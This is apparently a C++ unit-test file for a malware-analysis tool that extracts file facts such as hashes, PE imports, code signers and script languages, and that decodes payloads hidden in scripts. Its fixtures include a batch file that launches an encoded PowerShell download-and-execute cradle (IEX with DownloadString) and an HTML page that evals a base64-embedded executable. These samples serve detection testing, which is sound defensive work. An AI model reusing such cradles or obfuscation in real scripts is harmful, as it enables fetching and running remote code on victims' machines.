// Facts of objects, scripts and what they hide.
#include "facts.hpp"

#include <gtest/gtest.h>

#include <algorithm>

#include "mozu/base/base64.hpp"
#include "mozu/base/file.hpp"
#include "mozu/base/hash.hpp"
#include "mozu/files/objects.hpp"
#include "places.hpp"
#include "program.hpp"
#include "script.hpp"
#include "temp_folder.hpp"

namespace mozu::files::facts_test {
namespace {

constexpr std::uint64_t any_size = std::uint64_t{1} << 30;

std::string fact(const std::vector<std::pair<std::string, std::string>>& facts, std::string_view name) {
  const auto found = std::ranges::find(facts, name, &std::pair<std::string, std::string>::first);
  return found == facts.end() ? "" : found->second;
}
OpenedFile opened(std::string_view bytes, const std::string& name = {}) {
  CellLimits limits;
  limits.program = cell_program;
  auto f = open_objects(bytes, {.name = name}, limits);
  EXPECT_TRUE(f) << (f ? "" : f.error().message);
  return f ? std::move(*f) : OpenedFile{{FileObject{}}, {}};
}
std::string md5_hex(std::string_view s) {
  const auto d = md5(s);
  return to_hex(d);
}

TEST(Facts, OfAnything) {
  EXPECT_EQ(fact(facts_of("text", "aaaa"), "entropy"), "0.00");
  EXPECT_EQ(fact(facts_of("text", "abcd"), "entropy"), "2.00");
  EXPECT_EQ(fact(facts_of("text", "abcd"), "md5"), "e2fc714c4727ee9395f324cd2e7f331f");
}

void put(std::string& s, std::size_t at, std::uint64_t v, int n) {
  for (int i = 0; i < n; ++i) s[at + static_cast<std::size_t>(i)] = static_cast<char>(v >> (8 * i));
}

/// One import by name, one by number; a Rich head of two words masked with 0x11223344.
std::string made_pe() {
  std::string s(0x600, '\0');
  s.replace(0, 2, "MZ");
  put(s, 0x3C, 0xA0, 4);
  const std::uint32_t mask = 0x11223344;
  put(s, 0x80, 0x536E6144 ^ mask, 4), put(s, 0x84, mask, 4), put(s, 0x88, 0x01020304 ^ mask, 4), put(s, 0x8C, 0x68636952, 4), put(s, 0x90, mask, 4);
  s.replace(0xA0, 4, std::string("PE\0\0", 4));
  put(s, 0xA4, 0x14C, 2), put(s, 0xA6, 1, 2), put(s, 0xA8, 1'000'000'000, 4), put(s, 0xB4, 224, 2);
  const std::size_t optional = 0xB8;
  put(s, optional, 0x10B, 2), put(s, optional + 16, 0x1000, 4), put(s, optional + 28, 0x400000, 4), put(s, optional + 92, 16, 4);
  put(s, optional + 96 + 8, 0x1100, 4), put(s, optional + 96 + 12, 40, 4);
  const std::size_t section = optional + 224;
  put(s, section + 8, 0x3F0, 4), put(s, section + 12, 0x1000, 4), put(s, section + 16, 0x3F0, 4), put(s, section + 20, 0x200, 4),
      put(s, section + 36, 0x60000020, 4);
  put(s, 0x300, 0x1140, 4), put(s, 0x30C, 0x1180, 4), put(s, 0x310, 0x1160, 4);
  put(s, 0x340, 0x80000073, 4), put(s, 0x344, 0x11A0, 4);
  s.replace(0x380, 12, "KERNEL32.DLL");
  s.replace(0x3A2, 11, "CreateFileA");
  return s;
}

TEST(Facts, OfAWindowsProgram) {
  const auto f = facts_of("pe", made_pe());
  EXPECT_EQ(fact(f, "imphash"), md5_hex("kernel32.ord115,kernel32.createfilea")) << "in the order of the file";
  const std::string clear("DanS\0\0\0\0\x04\x03\x02\x01", 12);
  EXPECT_EQ(fact(f, "rich_hash"), md5_hex(clear));
  EXPECT_EQ(fact(f, "linked"), "2001-09-09T01:46:40Z");
  EXPECT_EQ(fact(f, "overlay_bytes"), "16");
  for (std::size_t n = 0; n < made_pe().size(); n += 7) (void)facts_of("pe", made_pe().substr(0, n));
}

TEST(Facts, HashesOfSimilarFilesIfAskedFor) {
  std::string text;
  for (int i = 0; i < 3000; ++i) text += "line " + std::to_string(i * i % 977) + " of it\n";
  CellLimits limits;
  limits.program = cell_program;
  const auto with = open_objects(text, {.fuzzy_hashes = true}, limits), without = open_objects(text, {}, limits);
  ASSERT_TRUE(with && without);
  EXPECT_EQ(fact(without->objects[0].facts, "ssdeep") + fact(without->objects[0].facts, "tlsh"), "");
  EXPECT_EQ(fact(with->objects[0].facts, "tlsh").size(), 70U);
  EXPECT_EQ(std::ranges::count(fact(with->objects[0].facts, "ssdeep"), ':'), 2);
  EXPECT_TRUE(std::ranges::is_sorted(with->objects[0].facts));
}

TEST(Facts, WhoSignedIt) {
  for (const std::string needed : {"osslsigncode", "openssl", "x86_64-w64-mingw32-gcc"})
    if (!has_program(needed)) GTEST_SKIP() << needed << " is not installed";
  const TempFolder folder;
  const auto run = [&](std::vector<std::string> words) { EXPECT_EQ(run_program(folder.file(""), std::move(words)), 0); };
  folder.write("a.c", "int main(void) { return 0; }\n");
  run({"x86_64-w64-mingw32-gcc", "-s", "a.c", "-o", "a.exe"});
  run({"openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "k.pem", "-out", "c.pem", "-subj", "/CN=Example Signer/O=Ünïon", "-utf8",
       "-set_serial", "0x1234"});
  run({"osslsigncode", "sign", "-certs", "c.pem", "-key", "k.pem", "-in", "a.exe", "-out", "s.exe"});
  const auto f = opened(read_file(folder.file("s.exe"), any_size).value());
  EXPECT_TRUE(f.notes.empty());
  const auto& facts = f.objects[0].facts;
  EXPECT_EQ(fact(facts, "signer"), "O=Ünïon,CN=Example Signer");
  EXPECT_EQ(fact(facts, "signer_issuer"), "O=Ünïon,CN=Example Signer");
  EXPECT_EQ(fact(facts, "signer_serial"), "1234");
  EXPECT_EQ(fact(facts, "signer_sha1").size(), 40U);
  EXPECT_EQ(fact(opened(read_file(folder.file("a.exe"), any_size).value()).objects[0].facts, "signer"), "");
}

TEST(Script, Languages) {
  EXPECT_EQ(script_kind("Attribute VB_Name = \"M\"\r\n", ""), "vba");
  EXPECT_EQ(script_kind("On Error Resume Next\nDim a\nSet a = CreateObject(\"WScript.Shell\")\na.Run \"x\"\n", ""), "vbscript");
  EXPECT_EQ(script_kind("x\nvar s = new ActiveXObject('WScript.Shell');\nfunction (a) { eval(a); }\nString.fromCharCode(1)", ""), "javascript");
  EXPECT_EQ(script_kind("$c = New-Object Net.WebClient\nIEX $c.x($env:TEMP)\n[System.Text.Encoding]::UTF8 | Get-Item", ""), "powershell");
  EXPECT_EQ(script_kind("@echo off\nset a=1\nif exist x goto y\necho %temp%\n", ""), "batch");
  EXPECT_EQ(script_kind("#!/bin/sh\necho x\n", ""), "shell");
  EXPECT_EQ(script_kind("#!/usr/bin/env python3\n", ""), "python");
  EXPECT_EQ(script_kind("import os\n", "a.py"), "python");
  EXPECT_EQ(script_kind("a line", "run.ps1"), "powershell") << "nothing else to go by";
  EXPECT_EQ(script_kind("The report of today says that a function was called, and that it is over.\n", "report.txt"), "");
}

std::string wide(std::string_view s) {
  std::string out;
  for (const char c : s) out += c, out += '\0';
  return out;
}

TEST(Script, WhatTheyHide) {
  const std::string command = "$client = New-Object Net.WebClient; IEX $client.DownloadString($env:ADDRESS); Get-Item [System.IO.Path]";
  const auto f = opened("@echo off\r\nset x=1\r\nif exist y goto z\r\npowershell -enc " + base64(wide(command)) + "\r\n", "run.bat");
  EXPECT_EQ(f.objects[0].kind, "batch");
  ASSERT_EQ(f.objects.size(), 2U);
  EXPECT_EQ(f.objects[1].how, "decoded");
  EXPECT_EQ(f.objects[1].kind, "powershell");
  EXPECT_EQ(f.objects[1].bytes, command.size());
  EXPECT_FALSE(f.objects[0].genome.genes.empty()) << "a script has genes of its own";

  const auto page =
      opened("<html><body><script language=\"VBScript\">On Error Resume Next\nDim a\nSet a = CreateObject(\"WScript.Shell\")\n</script><script>var a = '" +
             base64(made_pe()) + "';\neval(a); document.x(function() {}); var b === 1</script></body></html>");
  ASSERT_EQ(page.objects.size(), 4U);
  EXPECT_EQ(page.objects[1].kind, "vbscript");
  EXPECT_EQ(page.objects[2].kind, "javascript");
  EXPECT_EQ(page.objects[3].kind, "pe");
  EXPECT_EQ(page.objects[3].path, "script 2.js/base64 1");
  EXPECT_TRUE(hidden_in("no base64 here, and " + std::string(500, 'A'), 1000).empty());
}

}  // namespace
}  // namespace mozu::files::facts_test
